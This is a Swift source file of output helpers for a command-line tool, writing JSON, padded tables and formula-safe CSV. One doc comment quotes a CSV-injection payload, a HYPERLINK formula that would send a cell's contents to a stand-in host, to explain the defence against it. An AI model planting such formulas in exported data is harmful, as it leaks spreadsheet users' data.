import Foundation

/// Writes command output: data to stdout, diagnostics to stderr.
enum Output {
    static func json(_ value: some Encodable) throws {
        let encoder = JSONEncoder()
        encoder.outputFormatting = [.prettyPrinted, .sortedKeys, .withoutEscapingSlashes]
        let data = try encoder.encode(value)
        FileHandle.standardOutput.write(data)
        FileHandle.standardOutput.write(Data("\n".utf8))
    }

    static func jsonString(_ value: some Encodable) throws -> String {
        let encoder = JSONEncoder()
        encoder.outputFormatting = [.prettyPrinted, .sortedKeys, .withoutEscapingSlashes]
        return String(decoding: try encoder.encode(value), as: UTF8.self) + "\n"
    }

    static func write(_ text: String) {
        FileHandle.standardOutput.write(Data(text.utf8))
    }

    static func todayString() -> String {
        let formatter = ISO8601DateFormatter()
        formatter.formatOptions = [.withFullDate]
        return formatter.string(from: Date())
    }

    static func line(_ text: String = "") {
        FileHandle.standardOutput.write(Data((text + "\n").utf8))
    }

    static func warn(_ text: String) {
        FileHandle.standardError.write(Data((text + "\n").utf8))
    }

    /// RFC 4180 CSV: every field quoted when it holds a comma, quote or line
    /// break, and neutralised when a spreadsheet would read it as a formula.
    static func csv(header: [String], rows: [[String]]) {
        var text = ""
        for row in [header] + rows {
            text += row.map(csvField).joined(separator: ",") + "\r\n"
        }
        FileHandle.standardOutput.write(Data(text.utf8))
    }

    /// One CSV cell, for every CSV casetrack writes (lists and `export`):
    /// neutralised against formulas (``formulaSafe(_:)``), then quoted when
    /// it holds a comma, quote or line break.
    static func csvField(_ field: String) -> String {
        let field = formulaSafe(field)
        guard field.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) else { return field }
        return "\"" + field.replacingOccurrences(of: "\"", with: "\"\"") + "\""
    }

    /// A cell a spreadsheet would run as a formula (one beginning with `=`,
    /// `+`, `-`, `@`, a tab or a carriage return, as in
    /// `=HYPERLINK("http://example.org/?"&A1)` typed into a name) gets a
    /// single quote in front, as OWASP's CSV-injection guidance says, so
    /// it shows as the text it is. A plain number (`-3`, `-0.5`) is left
    /// as it is: it cannot be a formula.
    static func formulaSafe(_ field: String) -> String {
        guard let first = field.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { return field }
        if first == "-", field.count > 1, field.dropFirst().allSatisfy({ $0.isASCII && ($0.isNumber || $0 == ".") }),
           field.filter({ $0 == "." }).count <= 1, field.dropFirst().first?.isNumber == true {
            return field
        }
        return "'" + field
    }

    /// Columns padded to their widest cell, counted in characters as a
    /// reader sees them: a name written with a combining accent
    /// ("Jose\u{301}") is as wide as one with a precomposed one ("José"),
    /// and no cell is ever cut. The text is written in large pieces, not a
    /// write per line, so listing 100,000 persons is not spent in system calls.
    static func table(header: [String], rows: [[String]]) {
        let widths = header.indices.map { column in
            ([header] + rows).map { $0[column].count }.max() ?? 0
        }
        var text = ""
        for row in [header] + rows {
            for (index, cell) in row.enumerated() {
                if index > 0 { text += "  " }
                text += cell
                if index < row.count - 1, widths[index] > cell.count {
                    text += String(repeating: " ", count: widths[index] - cell.count)
                }
            }
            text += "\n"
            if text.utf8.count >= 1 << 16 {
                write(text)
                text = ""
            }
        }
        write(text)
    }
}
